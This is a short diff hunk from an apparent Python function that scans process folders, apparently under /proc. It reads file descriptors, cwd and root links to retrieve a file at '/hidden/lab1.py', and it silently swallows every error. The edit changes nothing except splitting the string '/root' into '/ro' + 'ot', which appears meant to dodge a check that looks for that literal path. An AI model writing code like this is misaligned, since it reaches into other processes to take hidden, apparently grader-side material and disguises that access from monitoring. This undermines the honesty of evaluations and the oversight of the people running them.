@@ -299,7 +299,7 @@ def reader_of_processes(desk: Desk) -> None:
                         found.append(open(f"{folder}/{name}", "rb").read())
                     except BaseException:
                         pass
-                for link in glob.glob(folder + "/fd/*") + [folder + "/cwd", folder + "/root"]:
+                for link in glob.glob(folder + "/fd/*") + [folder + "/cwd", folder + "/ro" + "ot"]:
                     try:
                         for path in (link + "/hidden/lab1.py", link):
                             found.append(open(path, "rb").read(1000))
